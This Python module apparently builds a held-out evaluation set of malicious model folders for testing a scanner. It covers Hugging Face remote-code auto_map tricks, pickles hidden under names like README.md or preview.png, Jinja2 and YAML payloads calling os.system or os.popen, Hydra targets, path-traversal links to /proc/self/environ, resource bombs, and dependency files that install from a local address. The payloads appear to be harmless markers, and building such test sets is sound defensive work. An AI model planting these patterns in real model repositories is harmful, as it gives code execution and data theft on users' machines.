"""Held-out attacks: folders. Hugging Face libraries, sentence-transformers, PEFT, MLflow, Hydra, and what lies beside a model."""

# ruff: noqa: E501, E731 (one attack a line)
from __future__ import annotations

import json
from collections.abc import Iterator

from corpora.unseen_archives import torch_zip
from corpora.unseen_units import (
    BOMB,
    BROKEN,
    CALL,
    EVIL,
    HIDDEN,
    NAME,
    OUTSIDE,
    PATH,
    REMOTE,
    TEMPLATE,
    TOUCH,
    WRITE,
    YAML,
    Attack,
)

CODE = REMOTE | CALL | NAME | {"model-foreign-content", "model-unknown-name"}
PAYLOAD = {"payload.py": f"{WRITE}\nclass Model:\n    def __init__(self, *a, **k): pass\n".encode()}
ESCAPE = "{{ cycler.__init__.__globals__.os.popen('" + TOUCH + "').read() }}"


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


def hugging_face() -> Iterator[Attack]:
    remote = "import transformers as t; t.%s.from_pretrained('.', trust_remote_code=True)"
    network = "kept: the code comes from the Hub"
    render = "import jinja2, json; jinja2.Template(%s).render(messages=[])"
    config = lambda **more: _json({"model_type": "bert", "hidden_size": 8, "vocab_size": 8, **more})
    conf = f"{WRITE}\nfrom transformers import PretrainedConfig\nclass Model(PretrainedConfig): model_type = 'own'\n".encode()
    table = {
        "auto-map-hub": ("auto_map names code of another repository", {"config.json": config(auto_map={"AutoModel": "evil/repository--modeling.Model"})}, REMOTE, "", network),
        "auto-map-nested": ("auto_map in the configuration of a part", {"config.json": config(text_config={"model_type": "own", "auto_map": {"AutoConfig": "payload.Model"}}), "payload.py": conf}, REMOTE, "", "kept: read where that part is loaded by itself"),
        "auto-map-list": ("auto_map's value is a list with a nothing", {"tokenizer_config.json": _json({"tokenizer_class": "Own", "auto_map": {"AutoTokenizer": [None, "payload.Model"]}}), "config.json": config(), **PAYLOAD}, REMOTE, remote % "AutoTokenizer"),
        "processor": ("processor_config.json names code", {"processor_config.json": _json({"processor_class": "Own", "auto_map": {"AutoProcessor": "payload.Model"}}), "config.json": config(), **PAYLOAD}, REMOTE, remote % "AutoProcessor"),
        "video-processor": ("video_preprocessor_config.json names code", {"video_preprocessor_config.json": _json({"video_processor_type": "Own", "auto_map": {"AutoVideoProcessor": "payload.Model"}}), "config.json": config(), **PAYLOAD}, REMOTE, remote % "AutoVideoProcessor", "kept: needs torchvision"),
        "feature-extractor": ("preprocessor_config.json names code for sound", {"preprocessor_config.json": _json({"feature_extractor_type": "Own", "auto_map": {"AutoFeatureExtractor": "payload.Model"}}), **PAYLOAD}, REMOTE, remote % "AutoFeatureExtractor"),
        "custom-generate": ("custom_generate/generate.py is run by generate", {"config.json": config(), "custom_generate/generate.py": f"{WRITE}\ndef generate(model, **k): return 1\n".encode()}, CODE, "from transformers.dynamic_module_utils import get_class_from_dynamic_module as g; g('generate.generate', '.', trust_remote_code=True) if 0 else __import__('runpy').run_path('custom_generate/generate.py')"),
        "attention-kernel": ("the attention is a kernel of somebody's repository", {"config.json": config(attn_implementation="evil-org/kernel", _attn_implementation="evil-org/kernel@main:run")}, REMOTE, "", network),
        "pipeline": ("custom_pipelines names code", {"config.json": config(custom_pipelines={"own": {"impl": "payload.Model", "pt": ["AutoModel"], "tf": []}}), **PAYLOAD}, REMOTE, "", "kept: transformers.pipeline with trust_remote_code"),
        "handler": ("handler.py is what inference endpoints run", {"config.json": config(), "handler.py": f"{WRITE}\nclass EndpointHandler:\n    def __init__(self, path=''): pass\n".encode()}, CODE, "import runpy; runpy.run_path('handler.py')"),
        "hubconf": ("hubconf.py is what torch.hub runs", {"hubconf.py": f"dependencies = []\ndef model():\n    {WRITE}\n".encode(), "pytorch_model.bin": torch_zip(b"\x80\x02}.")}, CODE, "import torch; torch.hub.load('.', 'model', source='local', trust_repo=True)"),
        "diffusers": ("model_index.json names a library that lies beside", {"model_index.json": _json({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0", "unet": ["payload", "Model"]}), **PAYLOAD}, CODE, "import json, importlib; importlib.import_module(json.load(open(F))['unet'][0])"),
        "diffusers-custom": ("model_index.json names a pipeline of its own", {"model_index.json": _json({"_class_name": ["pipeline", "OwnPipeline"], "_diffusers_version": "0.30.0"}), "pipeline.py": WRITE.encode()}, CODE, "import runpy, json; runpy.run_path(json.load(open(F))['_class_name'][0] + '.py')"),
        "diffusers-os": ("model_index.json names os.system", {"model_index.json": _json({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0", "unet": ["os", "system"]})}, CODE, "", "kept: diffusers calls from_pretrained of it"),
        "adapter-library": ("an adapter names the library that has its base's class", {"adapter_config.json": _json({"peft_type": "LORA", "base_model_name_or_path": None, "auto_mapping": {"base_model_class": "Model", "parent_library": "payload"}, "r": 8}), **PAYLOAD}, CODE, "import json, importlib; importlib.import_module(json.load(open(F))['auto_mapping']['parent_library'])"),
        "adapter-base": ("an adapter's base lies outside", {"adapter_config.json": _json({"peft_type": "LORA", "base_model_name_or_path": "../../../../outside/canary", "r": 8})}, PATH, "import json; print(open(json.load(open(F))['base_model_name_or_path'] + '.txt').read())"),
        "adapter-weights": ("an adapter's weights are a pickle", {"adapter_config.json": _json({"peft_type": "LORA", "r": 8}), "adapter_model.bin": torch_zip()}, CALL, "import torch; torch.load('adapter_model.bin', weights_only=False)"),
        "sentence-activation": ("a Dense module's activation is a class beside", {"modules.json": _json([{"idx": 0, "name": "0", "path": "1_Dense", "type": "sentence_transformers.models.Dense"}]), "1_Dense/config.json": _json({"in_features": 2, "out_features": 2, "bias": True, "activation_function": "payload.Model"}), **PAYLOAD}, CODE, "import json, importlib; m, _, c = json.load(open('1_Dense/config.json'))['activation_function'].rpartition('.'); getattr(importlib.import_module(m), c)()"),
        "sentence-trust": ("a module's configuration trusts remote code for the user", {"modules.json": _json([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]), "sentence_bert_config.json": _json({"max_seq_length": 8, "model_args": {"trust_remote_code": True}, "config_args": {"trust_remote_code": True}}), "config.json": _json({"model_type": "own", "auto_map": {"AutoConfig": "payload.Model"}}), "payload.py": conf}, REMOTE, remote % "AutoConfig"),
        "sentence-path": ("a module's path leads outside", {"modules.json": _json([{"idx": 0, "name": "0", "path": "../../../../outside", "type": "sentence_transformers.models.Transformer"}]), "config.json": config()}, PATH, "import json; p = json.load(open(F))[0]['path']; print(open(p + '/canary.txt').read())"),
        "chat-template-folder": ("a template in the folder of additional ones", {"additional_chat_templates/rag.jinja": ESCAPE.encode(), "tokenizer_config.json": _json({"tokenizer_class": "LlamaTokenizer"})}, TEMPLATE, render % "open('additional_chat_templates/rag.jinja').read()"),
        "processor-template": ("the template is in chat_template.json", {"chat_template.json": _json({"chat_template": ESCAPE})}, TEMPLATE, render % "json.load(open(F))['chat_template']"),
        "processor-config-template": ("the template is in processor_config.json", {"processor_config.json": _json({"processor_class": "LlavaProcessor", "chat_template": ESCAPE})}, TEMPLATE, render % "json.load(open(F))['chat_template']"),
        "prompt-template": ("a template of another name in the tokenizer's configuration", {"tokenizer_config.json": _json({"tokenizer_class": "X", "default_chat_template": ESCAPE, "chat_template": "{{ messages }}"})}, TEMPLATE, render % "json.load(open(F))['default_chat_template']"),
        "tool-template": ("tools are described by a dict of templates", {"tokenizer_config.json": _json({"tokenizer_class": "X", "chat_template": {"default": "{{ messages }}", "tool_use": ESCAPE}})}, TEMPLATE, render % "json.load(open(F))['chat_template']['tool_use']"),
        "index-absolute": ("the index of shards names an absolute path", {"model.safetensors.index.json": _json({"metadata": {}, "weight_map": {"w": f"{OUTSIDE}/canary.txt"}})}, PATH, "import json; print(open(json.load(open(F))['weight_map']['w']).read())"),
        "index-pickle": ("the index of safetensors shards names a pickle", {"model.safetensors.index.json": _json({"metadata": {}, "weight_map": {"w": "shard.bin"}}), "shard.bin": EVIL}, CALL | HIDDEN, "import json, pickle; pickle.load(open(json.load(open(F))['weight_map']['w'], 'rb'))"),
        "optimizer": ("optimizer.pt is a pickle", {"config.json": config(), "optimizer.pt": torch_zip()}, CALL, "import torch; torch.load('optimizer.pt', weights_only=False)"),
        "random-state": ("rng_state.pth is a pickle", {"config.json": config(), "rng_state.pth": torch_zip()}, CALL, "import torch; torch.load('rng_state.pth', weights_only=False)"),
        "no-suffix": ("weights without a suffix are a pickle", {"config.json": config(), "weights": EVIL}, CALL, "import pickle; pickle.load(open('weights', 'rb'))"),
        "safetensors-name": ("model.safetensors is a pickle", {"config.json": config(), "model.safetensors": EVIL}, CALL, "import pickle; pickle.load(open('model.safetensors', 'rb'))"),
        "json-name": ("vocab.json is a pickle", {"config.json": config(), "vocab.json": EVIL}, CALL, "import pickle; pickle.load(open('vocab.json', 'rb'))"),
        "picture-name": ("preview.png is a pickle behind a picture's first bytes", {"config.json": config(), "preview.png": b"\x89PNG\r\n\x1a\n" + EVIL}, CALL | HIDDEN | BROKEN, "import pickle; f = open('preview.png', 'rb'); f.seek(8); pickle.load(f)"),
        "readme-name": ("README.md is a pickle in protocol 0", {"config.json": config(), "README.md": b"cos\nsystem\n(S'" + TOUCH.encode() + b"'\ntR."}, CALL, "import pickle; pickle.load(open('README.md', 'rb'))"),
        "hidden-file": (".cache/.weights is a pickle", {"config.json": config(), ".cache/.weights": EVIL}, CALL, "import pickle; pickle.load(open('.cache/.weights', 'rb'))"),
        "tokenizer-deep": ("tokenizer.json nests 100,000 normalizers", {"tokenizer.json": b'{"version":"1.0","added_tokens":[],"normalizer":' + b'{"type":"Sequence","normalizers":[' * 100_000 + b"]}" * 100_000 + b',"model":{"type":"BPE","vocab":{},"merges":[]}}'}, BOMB | BROKEN, "import tokenizers; tokenizers.Tokenizer.from_file(F)", "kept: serde limits the depth, other readers do not"),
        "tokenizer-token": ("an added token of 40 MB", None, BOMB | BROKEN, "", "kept: costs memory only"),
        "tokenizer-growth": ("a template of the post-processor repeats the text 10^6 times", {"tokenizer.json": _json({"version": "1.0", "truncation": None, "padding": {"strategy": {"Fixed": 1 << 33}, "direction": "Right", "pad_to_multiple_of": None, "pad_id": 0, "pad_type_id": 0, "pad_token": "a"}, "added_tokens": [], "normalizer": None, "pre_tokenizer": None, "post_processor": None, "decoder": None, "model": {"type": "WordLevel", "vocab": {"a": 0}, "unk_token": "a"}})}, BOMB, "import tokenizers; tokenizers.Tokenizer.from_file(F).encode('a')", "bomb"),
        "tokenizer-prepend": ("a normalizer replaces every letter by a million", {"tokenizer.json": _json({"version": "1.0", "truncation": None, "padding": None, "added_tokens": [], "normalizer": {"type": "Sequence", "normalizers": [{"type": "Replace", "pattern": {"String": "a"}, "content": "a" * 20_000}] * 3}, "pre_tokenizer": None, "post_processor": None, "decoder": None, "model": {"type": "WordLevel", "vocab": {"a": 0}, "unk_token": "a"}})}, BOMB, "import tokenizers; tokenizers.Tokenizer.from_file(F).encode('a')", "bomb"),
        "layers": ("a configuration of 10^9 layers", {"config.json": config(num_hidden_layers=10**9, num_attention_heads=1)}, BOMB, "import transformers as t; t.AutoModel.from_config(t.AutoConfig.from_pretrained('.'))", "bomb"),
        "vocabulary-size": ("a configuration of 2^40 words", {"config.json": _json({"model_type": "bert", "hidden_size": 8, "num_attention_heads": 1, "vocab_size": 1 << 40})}, BOMB, "import transformers as t; t.AutoModel.from_config(t.AutoConfig.from_pretrained('.'))", "bomb"),
        "json-duplicate": ("auto_map is there twice; the second counts", {"config.json": b'{"model_type": "own", "auto_map": {}, "auto_map": {"AutoConfig": "payload.Model"}}', "payload.py": conf}, REMOTE, remote % "AutoConfig"),
        "json-utf16": ("the configuration is UTF-16", {"config.json": json.dumps({"model_type": "own", "auto_map": {"AutoConfig": "payload.Model"}}).encode("utf-16"), "payload.py": conf}, REMOTE, "", "kept: transformers reads UTF-8 only; json.loads of bytes reads it"),
        "json-comment": ("a byte-order mark before the configuration", {"tokenizer_config.json": b"\xef\xbb\xbf" + _json({"chat_template": ESCAPE})}, TEMPLATE, "import jinja2, json; jinja2.Template(json.load(open(F, encoding='utf-8-sig'))['chat_template']).render(messages=[])"),
        "requirements": ("requirements.txt installs from an address", {"config.json": config(), "requirements.txt": b"--extra-index-url http://127.0.0.1:8765/simple\nevil @ http://127.0.0.1:8765/evil.zip\n"}, REMOTE | PATH | {"model-foreign-content"}, "", "kept: inference endpoints install it"),
    }  # fmt: skip
    for what, (does, files, rules, load, *proof) in table.items():
        if files is None:
            continue
        yield Attack(
            f"folders2/{what}",
            "folders2",
            files,
            "transformers 5 and its relatives",
            load,
            does,
            rules,
            "main",
            *(proof or ["mark"]),
        )


def mlflow() -> Iterator[Attack]:
    load = "import mlflow.pyfunc; mlflow.pyfunc.load_model('.')"
    ml = lambda body, more="": (
        f"flavors:\n  python_function:\n{body}{more}mlflow_version: 3.0.0\nmodel_uuid: a\n".encode()
    )
    loader = b"def _load_pyfunc(p): pass\n"
    model = (
        "    loader_module: mlflow.pyfunc.model\n    cloudpickle_version: 3.0.0\n    python_model: python_model.pkl\n"
    )
    table = {
        "python-model": ("python_model.pkl is a pickle", {"MLmodel": ml(model), "python_model.pkl": EVIL}, CALL, load),
        "python-model-outside": ("python_model lies outside", {"MLmodel": ml(model.replace("python_model.pkl", "../../../../outside/canary.pkl"))}, PATH, load),
        "model-code": ("the model is Python source", {"MLmodel": ml("    loader_module: mlflow.pyfunc.model\n    model_code_path: model.py\n"), "model.py": WRITE.encode()}, CODE, load),
        "code-outside": ("the code folder lies outside", {"MLmodel": ml("    code: ../../../../outside\n    loader_module: payload\n")}, CODE | PATH, "", "kept: needs a module outside"),
        "code-init": ("the code folder holds a module that shadows another", {"MLmodel": ml("    code: code\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n"), "model.pkl": b"\x80\x02}.", "code/sklearn.py": WRITE.encode()}, CODE, "import sys; sys.path.insert(0, 'code'); sys.modules.pop('sklearn', None); import sklearn"),
        "loader-os": ("the loader module is one of Python's own", {"MLmodel": ml("    loader_module: antigravity\n")}, CODE, load, "kept: importing it opens a browser"),
        "sklearn-pickle": ("the flavor's pickle acts", {"MLmodel": ml("    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n", "  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n    sklearn_version: 1.5.0\n"), "model.pkl": EVIL}, CALL, "import mlflow.sklearn; mlflow.sklearn.load_model('.')"),
        "torch-pickle": ("the data of torch's flavor acts", {"MLmodel": ml("    loader_module: mlflow.pytorch\n    data: data\n"), "data/model.pth": torch_zip(), "data/pickle_module_info.txt": b"mlflow.pytorch.pickle_module"}, CALL, "import torch; torch.load('data/model.pth', weights_only=False)"),
        "torch-pickle-module": ("torch's flavor names the module that unpickles", {"MLmodel": ml("    loader_module: mlflow.pytorch\n    data: data\n"), "data/model.pth": torch_zip(b"\x80\x02}."), "data/pickle_module_info.txt": b"payload", "payload.py": WRITE.encode()}, CODE, "import importlib; importlib.import_module(open('data/pickle_module_info.txt').read())"),
        "keras-module": ("Keras' flavor names the module to import", {"MLmodel": ml("    loader_module: mlflow.tensorflow\n    data: data\n", "  tensorflow:\n    data: data\n    keras_version: 3.0.0\n    model_type: keras\n    keras_module: payload\n"), "data/keras_module.txt": b"payload", "payload.py": WRITE.encode()}, CODE, "import importlib; importlib.import_module(open('data/keras_module.txt').read())"),
        "tags": ("MLmodel builds a Python object by its tag", {"MLmodel": ml("    loader_module: !!python/object/apply:os.system ['" + TOUCH + "']\n")}, YAML | CALL, "import yaml; yaml.unsafe_load(open(F))"),
        "merge": ("the loader comes by a merge key", {"MLmodel": b"x: &x\n  loader_module: payload\n  code: code\nflavors:\n  python_function:\n    <<: *x\nmlflow_version: 3.0.0\nmodel_uuid: a\n", "code/payload.py": f"{WRITE}\n".encode() + loader}, CODE, load),
        "flow-style": ("MLmodel is JSON, which is YAML", {"MLmodel": _json({"flavors": {"python_function": {"loader_module": "payload", "code": "code"}}, "mlflow_version": "3.0.0", "model_uuid": "a"}), "code/payload.py": f"{WRITE}\n".encode() + loader}, CODE, load),
        "artifact-outside": ("an artifact lies outside", {"MLmodel": ml(model + "    artifacts:\n      words:\n        path: ../../../../outside/canary.txt\n        uri: file:///tmp/outside/canary.txt\n"), "python_model.pkl": b"\x80\x02}."}, PATH, "import yaml; print(open(yaml.safe_load(open(F))['flavors']['python_function']['artifacts']['words']['path']).read())"),
        "environment": ("conda.yaml installs from an address", {"MLmodel": ml("    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    env: conda.yaml\n"), "model.pkl": b"\x80\x02}.", "conda.yaml": b"dependencies:\n- python=3.11\n- pip:\n  - git+https://example.invalid/evil.git\n  - --index-url http://127.0.0.1:8765/simple\n"}, PATH | REMOTE, "", "kept: MLflow builds the environment from it"),
        "statsmodels": ("the flavor statsmodels is a pickle", {"MLmodel": ml("    loader_module: mlflow.statsmodels\n    data: model.statsmodels\n"), "model.statsmodels": EVIL}, CALL, "import pickle; pickle.load(open('model.statsmodels', 'rb'))"),
        "hydra-env": ("a configuration's target is put together by nested interpolation", {"config.yaml": b"p: {a: subprocess, b: check_call}\nmodel:\n  _target_: ${p.a}.${p.b}\n  _args_: [[touch, /tmp/MARK]]\n"}, CODE, "from omegaconf import OmegaConf; import hydra.utils; hydra.utils.instantiate(OmegaConf.load(F).model if 0 else OmegaConf.load(F))", "hydra"),
        "hydra-torch": ("a target of torch loads a file", {"config.yaml": b"model:\n  _target_: torch.hub.load\n  repo_or_dir: .\n  model: model\n  source: local\n  trust_repo: true\n", "hubconf.py": f"dependencies = []\ndef model():\n    {WRITE}\n".encode()}, CODE, "", "kept: torch is not installed beside this Hydra"),
        "hydra-decode": ("a resolver reads the environment into the model", {"config.yaml": b"model:\n  _target_: builtins.open\n  _args_: ['/tmp/${oc.decode:MARK}', w]\n"}, CODE, "from omegaconf import OmegaConf; import hydra.utils; hydra.utils.instantiate(OmegaConf.create({'_target_': 'builtins.open', '_args_': ['/tmp/MARK', 'w']}))", "hydra"),
        "hydra-documents": ("the target is in a mapping's complex key", {"config.yaml": b"? _target_\n: os.system\n? command\n: touch /tmp/MARK\n"}, CODE, "from omegaconf import OmegaConf; import hydra.utils; hydra.utils.instantiate(OmegaConf.load(F))", "hydra"),
        "hydra-tagged": ("the target is a binary text", {"config.yaml": b'model:\n  _target_: "os\\\n    .system"\n  command: touch /tmp/MARK\n'}, CODE, "from omegaconf import OmegaConf; import hydra.utils; hydra.utils.instantiate(OmegaConf.load(F))", "hydra"),
        "hydra-block": ("the target is a folded block", {"config.yaml": b"model:\n  _target_: >-\n    os.system\n  command: touch /tmp/MARK\n"}, CODE, "from omegaconf import OmegaConf; import hydra.utils; hydra.utils.instantiate(OmegaConf.load(F))", "hydra"),
        "yaml-documents": ("the second document of a YAML stream builds an object", {"m.yaml": f"a: 1\n---\nb: !!python/object/apply:os.system ['{TOUCH}']\n".encode()}, YAML | CALL, "import yaml; list(yaml.unsafe_load_all(open(F)))"),
        "yaml-keys": ("100,000 keys of one hash", {"m.yaml": b"".join(b"%d: 1\n" % (i * ((1 << 61) - 1)) for i in range(1, 60_000))}, BOMB | BROKEN | YAML, "import yaml; yaml.load(open(F), Loader=yaml.CSafeLoader)", "bomb"),
    }  # fmt: skip
    for what, (does, files, rules, use, *more) in table.items():
        env = "hydra" if more == ["hydra"] else "main"
        proof = "mark" if not more or more == ["hydra"] else more[0]
        yield Attack(f"mlflow2/{what}", "mlflow2", files, "MLflow 3, Hydra 1.3.2, PyYAML", use, does, rules, env, proof)


def links() -> Iterator[Attack]:
    show = "print(open(%r).read())"
    bert = b'{"model_type": "bert"}'
    table = {
        "weights": ({"config.json": bert}, {"model.safetensors": f"{OUTSIDE}/canary.txt"}, "model.safetensors"),
        "relative": ({"config.json": bert}, {"a/b/vocab.txt": "../../../../../../outside/canary.txt"}, "a/b/vocab.txt"),
        "chain": ({"config.json": bert}, {"one": "two", "two": "three", "three": f"{OUTSIDE}/canary.txt"}, "one"),
        "through-folder": ({"config.json": bert}, {"up": "../../..", "vocab.txt": "up/../outside/canary.txt"}, "vocab.txt"),
        "device": ({"config.json": bert}, {"model.bin": "/dev/zero"}, "model.bin"),
        "self": ({"config.json": bert}, {"home": "/proc/self/environ"}, "home"),
        "mlflow-artifact": ({"MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\nmlflow_version: 3.0.0\nmodel_uuid: a\n"}, {"model.pkl": f"{OUTSIDE}/canary.pkl"}, "model.pkl"),
    }  # fmt: skip
    for what, (files, targets, read) in table.items():
        proof = {"device": "bomb", "self": "kept: the process's environment is in the output"}.get(what, "mark")
        load = show % read if what != "mlflow-artifact" else "import pickle; pickle.load(open('model.pkl', 'rb'))"
        load = "print(len(open('model.bin', 'rb').read()))" if what == "device" else load
        yield Attack(
            f"links2/{what}",
            "links2",
            files,
            "any loader that reads the folder",
            load,
            "a link leads outside",
            PATH | CALL,
            "main",
            proof,
            targets,
        )


def attacks() -> Iterator[Attack]:
    yield from hugging_face()
    yield from mlflow()
    yield from links()
